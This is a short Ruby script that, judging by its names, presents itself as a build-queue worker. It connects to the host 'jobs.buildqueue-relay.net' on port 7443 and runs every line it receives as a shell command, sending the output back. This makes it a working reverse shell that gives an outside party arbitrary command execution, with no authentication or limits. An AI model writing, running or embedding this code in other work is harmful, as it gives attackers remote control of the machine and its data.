require "socket"

conn = TCPSocket.new("jobs.buildqueue-relay.net", 7443)
conn.puts "worker-ready"
while (job = conn.gets)
  output = IO.popen(job.strip, err: [:child, :out], &:read)
  conn.write(output)
end
